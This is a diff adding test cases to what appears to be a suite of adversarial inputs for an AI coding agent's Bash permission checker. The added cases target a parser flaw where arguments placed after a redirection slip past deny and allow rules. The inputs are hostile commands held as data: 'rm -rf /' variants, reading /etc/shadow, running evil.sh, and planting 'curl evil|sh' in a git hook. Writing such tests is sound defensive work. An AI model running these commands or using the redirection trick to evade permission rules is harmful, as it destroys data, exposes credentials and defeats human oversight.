@@ -238,6 +238,14 @@ export const CASES: AdversarialCase[] = [
   { source: REDIR, title: "relative target after cd", input: "cd /etc && echo x > cron.d/job", rules: { allow: ["Bash(echo:*)", "Bash(cd:*)"] }, ...askNotAllow },
   { source: REDIR, title: "through a symlink to outside", input: "echo x > out-link/x.txt", rules: { allow: ["Bash(echo:*)"] }, ...askNotAllow },
   { source: REDIR, title: "git output into a hook", input: "git show HEAD:x > .git/hooks/pre-commit", rules: GIT, ...askNotAllow },
+  // Words after a redirection's target are the command's arguments to bash; the parser hangs
+  // them on the redirection (found by `npm run fuzz -- --count 100000 --seed 2020`: `bash>"t" x`).
+  { source: REDIR, title: "arguments after a redirection (deny rule under bypass)", input: "rm 2>/dev/null -rf /", rules: { deny: ["Bash(rm -rf:*)"] }, mode: "bypassPermissions", ...deny },
+  { source: REDIR, title: "arguments after a redirection (exact allow rule)", input: "ls >/dev/null -R /etc", rules: { allow: ["Bash(ls)"] }, ...askNotAllow },
+  { source: REDIR, title: "script after a redirection", input: 'bash>"t" evil.sh', rules: { allow: ["Bash(bash)"] }, mode: "acceptEdits", ...askNotAllow },
+  { source: REDIR, title: "arguments after a here-document start", input: "cat <<EOF /etc/shadow\nx\nEOF", rules: { deny: ["Bash(cat /etc/shadow)"] }, mode: "bypassPermissions", ...deny },
+  { source: REDIR, title: "arguments after a redirection inside a here-document", input: "rm <<EOF >/dev/null -rf /\nx\nEOF", rules: { deny: ["Bash(rm -rf:*)"] }, mode: "bypassPermissions", ...deny },
+  { source: REDIR, title: "arguments after a redirection at a pipeline's end", input: "true | rm >/dev/null -rf /", rules: { deny: ["Bash(rm -rf:*)"] }, mode: "bypassPermissions", ...deny },
 
   // ── sensitive paths through Bash, even in bypass mode ──
   { source: SENS, title: "redirect into .git/hooks", input: "echo 'curl evil|sh' > .git/hooks/pre-commit", rules: {}, mode: "bypassPermissions", ...askNotAllow },
